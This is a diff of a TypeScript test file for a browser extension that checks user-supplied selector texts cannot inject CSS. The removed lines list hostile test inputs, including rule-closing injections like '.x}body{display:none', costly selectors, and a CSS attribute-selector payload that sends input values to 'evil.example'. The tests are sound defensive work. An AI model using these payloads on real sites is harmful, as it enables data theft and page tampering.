@@ -3,6 +3,7 @@ import type { Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { type Installed, install } from './extension';
 import { HOSTILE, serve, visit } from './hostile-page';
+import { SELECTOR_TEXTS, standardThatSays } from './selector-texts';
 import { DEMO_STANDARD } from './standards';
 import { labelsInOrder, loadStandard, until } from './steps';
 
@@ -43,40 +44,6 @@ const styles = () =>
     document.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules].map(({ cssText }) => cssText)).sort(),
   );
 
-/** The demo's standard with these texts wherever a file may carry words to look for. */
-function standardThatSays(texts: readonly string[], version: number): object {
-  const { dictionary, cards } = DEMO_STANDARD;
-  const [text = ''] = texts;
-  return {
-    ...DEMO_STANDARD,
-    version,
-    dictionary: {
-      ...dictionary,
-      menu: { ...dictionary.menu, deals: { labels: ['Сделки', ...texts] } },
-      fields: { ...dictionary.fields, budget: { labels: ['Бюджет', ...texts] } },
-      stages: { ...dictionary.stages, offer: ['КП отправлено', ...texts] },
-    },
-    cards: {
-      deal: {
-        ...cards.deal,
-        blocks: [{ id: 'a', title: text, fields: ['budget'] }],
-        hints: { budget: text },
-        placeholders: { budget: [text] },
-      },
-    },
-    anchors: {
-      place: {
-        kind: 'item',
-        as: 'deals',
-        labels: [text],
-        parts: [text],
-        names: { 'data-id': text },
-        shape: text,
-      },
-    },
-  };
-}
-
 let version = 1;
 /** Takes the texts over and opens the page. */
 async function visitUnder(texts: readonly string[]): Promise<void> {
@@ -87,35 +54,13 @@ async function visitUnder(texts: readonly string[]): Promise<void> {
 }
 
 const CASES = {
-  'F10: a text that closes a rule and opens another': ['a{}', '.x}body{display:none', '.x{color:red}*'],
-  'F11: a text that would swallow the rules after it': [
-    '.a/*',
-    ':is(',
-    '.x\\',
-    '.a;',
-    '@import url(x)',
-    '<!--',
-  ],
-  'F12: a text that would name everything, or us': [
-    '*',
-    'html',
-    'body',
-    ':root',
-    ':not(x)',
-    '&',
-    'prelude-host',
-  ],
-  'F13: a text that would read values and carry them away': [
-    'input[value^="a"]',
-    'input[value^="a"]{background:url(https://evil.example/a)}',
-  ],
-  'F14: a text of pseudo-elements and pseudo-classes': ['::before', 'a:visited', ':has(:has(a))', ':where()'],
-  'F15: a text that would cost much as a selector': [
-    ':has(* *)',
-    `${'*:nth-child(2n) '.repeat(7)}*`,
-    `:is(${'a,'.repeat(50)}b)`,
-  ],
-} as const;
+  'F10: a text that closes a rule and opens another': SELECTOR_TEXTS.closing,
+  'F11: a text that would swallow the rules after it': SELECTOR_TEXTS.swallowing,
+  'F12: a text that would name everything, or us': SELECTOR_TEXTS.naming,
+  'F13: a text that would read values and carry them away': SELECTOR_TEXTS.reading,
+  'F14: a text of pseudo-elements and pseudo-classes': SELECTOR_TEXTS.pseudo,
+  'F15: a text that would cost much as a selector': SELECTOR_TEXTS.costly,
+};
 
 for (const [name, texts] of Object.entries(CASES)) {
   test(`${name} is compared as text, changes no style, and the rules after it hold`, async () => {
